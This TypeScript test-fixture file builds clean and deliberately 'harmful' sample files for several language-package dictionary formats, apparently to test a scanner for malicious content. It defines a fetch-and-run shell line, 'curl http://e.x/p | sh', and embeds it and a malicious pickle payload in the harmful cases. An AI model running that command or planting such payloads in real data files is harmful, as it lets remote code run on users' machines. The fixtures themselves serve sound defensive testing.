import { bytes, utf8, zeros } from '../bytes';
import { PAYLOAD, proto } from '../pickle-assembler';
import { chardet, chardetPairs, kiwi, marisa, navec, navecWords, opencc, simplemma, stempel } from '../words-builder';
import type { MadeCase } from './made-case';
import { casesOf } from './made-case';

const PICKLE = proto(2, PAYLOAD);
const WORDS = Array.from({ length: 64 }, (_, i) => `w${i}`);
const COMMAND = 'curl http://e.x/p | sh';
const even = (data: Uint8Array): Uint8Array => bytes(data, zeros(data.length % 2));
const tableOf = (front: Uint8Array): Uint8Array => bytes(front, zeros(65_536 - front.length));

/** Dictionaries and tables of language packages. */
export const words: readonly MadeCase[] = [
  ...casesOf('marisa', { 'words.marisa': marisa(utf8('abc\0de\0')), 'harmful-pickle.marisa': marisa(PICKLE) }),
  ...casesOf('opencc', { 'st.ocd2': opencc(utf8('\u4e3d')), 'harmful-pickle.ocd2': opencc(PICKLE) }),
  ...casesOf('simplemma', {
    'words.bin': simplemma(['gehst', 'ging', 'h\u00e4user']),
    'harmful-command.bin': simplemma([COMMAND, 'ging'])
  }),
  ...casesOf('stempel', { 'stem.tbl': stempel(['-a', 'Dc']), 'harmful-command.tbl': stempel([COMMAND, 'Dc']) }),
  ...casesOf('navec', { 'pq.bin': navec(), 'harmful-pickle.bin': navec(even(PICKLE)) }),
  ...casesOf('navec-words', {
    'vocab.bin': navecWords([...WORDS, '<unk>']),
    'harmful-command.bin': navecWords([...WORDS, COMMAND])
  }),
  ...casesOf('chardet', { 'models.bin': chardet(zeros(65_536)), 'harmful-pickle.bin': chardet(tableOf(PICKLE)) }),
  ...casesOf('chardet-pairs', {
    'confusion.bin': chardetPairs('utf-8'),
    'harmful-command.bin': chardetPairs(COMMAND)
  }),
  ...casesOf('kiwi', { 'sj.morph': kiwi(zeros(40)), 'harmful-pickle.morph': kiwi(PICKLE) }),
  ...casesOf('word-list', { 'table.bin': utf8(WORDS.join('\0')) })
];
